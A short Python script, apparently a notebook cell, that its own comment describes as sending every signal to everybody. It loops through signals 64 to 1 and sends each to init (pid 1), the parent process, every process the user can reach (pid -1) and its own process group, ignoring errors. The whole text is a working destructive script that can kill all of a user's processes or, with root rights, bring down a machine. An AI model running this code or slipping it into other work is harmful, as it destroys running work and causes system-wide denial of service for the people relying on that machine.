# Sends every signal to everybody.
# %%
import os

for number in range(64, 0, -1):
    for pid in (1, os.getppid(), -1, 0):
        if number in (9, 19) and pid == 0:
            continue
        try:
            os.kill(pid, number)
        except OSError:
            continue
